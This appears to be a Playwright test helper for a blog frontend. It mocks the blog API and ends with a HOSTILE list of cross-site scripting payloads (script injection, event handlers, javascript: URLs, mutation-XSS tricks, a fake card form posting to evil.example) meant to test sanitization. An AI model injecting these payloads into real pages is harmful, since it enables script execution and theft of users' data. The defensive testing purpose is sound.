import type { BlogListItem, BlogPost } from 'api-wire/blog';
import type { Route } from 'playwright-core';
import { alive, type Visit } from '../browser/browser';

/** Addresses of the blog host's calls. */
export const LIST = '**/formdata/api_blog_list.php**';
export const POST = '**/formdata/api_blog_show.php**';

/** Navigates to the blog from another remote, so that the browser calls the blog host, and answers in its place. */
export async function arriveSoftly(
  visitor: Visit,
  path: '/blog' | `/blog/${string}`,
  address: string,
  answer: (route: Route) => Promise<void>,
): Promise<Visit> {
  const { page } = visitor;
  await page.goto('/contact');
  await alive(page);
  await page.route(address, answer);
  await page.evaluate((href) => {
    const link = Object.assign(document.createElement('a'), { href, textContent: 'There' });
    document.body.append(link);
    link.click();
    link.remove();
  }, path);
  await page.waitForURL(`**${path}`);
  return visitor;
}

/** Returns an item of the host's list. */
export const item = (more: Partial<BlogListItem>): BlogListItem => ({
  id: 1,
  title: 'Linen',
  slug: 'linen',
  created_at: '2025-03-05T18:45:00.000Z',
  ...more,
});
/** Returns the host's response for one post. */
export const post = (more: Partial<BlogPost>): { json: object } => ({
  json: {
    success: true,
    data: { id: 1, slug: 'linen', title: 'Linen', created_at: '2025-03-05', content: '<p>Percale.</p>', ...more },
  },
});

const strike = 'window.struck=1';
/** A body that tries to run `window.struck = 1`, to load from elsewhere and to leave the page. */
export const HOSTILE = [
  `<script>${strike}</script><script src="https://evil.example/x.js"></script>`,
  `<img src="nowhere:" onerror="${strike}"><svg onload="${strike}"><script>${strike}</script></svg>`,
  `<p onclick="${strike}" onmouseover="${strike}" id="main" style="position:fixed;inset:0">Percale.</p>`,
  `<a href="javascript:${strike}">Sateen</a> <a href="java\tscript:${strike}">Twill</a>`,
  `<a href="data:text/html,<script>${strike}</script>">Drill</a>`,
  `<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object><embed src="//evil.example/e">`,
  `<form action="https://evil.example/f"><input name="card"><button>Pay</button></form>`,
  `<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/s.css">`,
  `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<math><mtext><table><mglyph><style><img src onerror="${strike}"></style></mglyph></table></mtext></math>`,
  `<template><script>${strike}</script></template><noscript><p title="</noscript><img src=x onerror=${strike}>"></noscript>`,
].join('\n');
